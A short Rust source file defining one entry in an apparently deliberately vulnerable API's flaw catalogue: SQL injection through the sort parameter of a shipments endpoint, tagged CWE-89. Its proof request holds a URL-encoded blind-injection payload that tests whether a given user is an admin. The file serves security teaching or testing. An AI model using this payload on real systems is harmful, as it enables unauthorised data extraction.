use crate::{
    flaws::{FlawItem, Protocol},
    proof::{
        Expect::{Has, Success},
        get,
    },
};

/// SQL can be injected into the order.
pub(crate) static FLAW: FlawItem = FlawItem {
    id: "sql-sort",
    title: "SQL can be injected into the order",
    owasp: "API8:2019",
    cwe: 89,
    protocol: Protocol::Rest,
    operation: "GET /api/v1/shipments",
    what: "The column to sort by is put into the statement as it is; a condition answers questions one by one.",
    proof: &[get("ada", "/api/v1/shipments?sort=case%20when%20%28select%20role%20from%20users%20where%20id%20%3D%205%29%20%3D%20%27admin%27%20then%20id%20else%20-id%20end").shows(&[Success, Has("QS-1001")])],
};
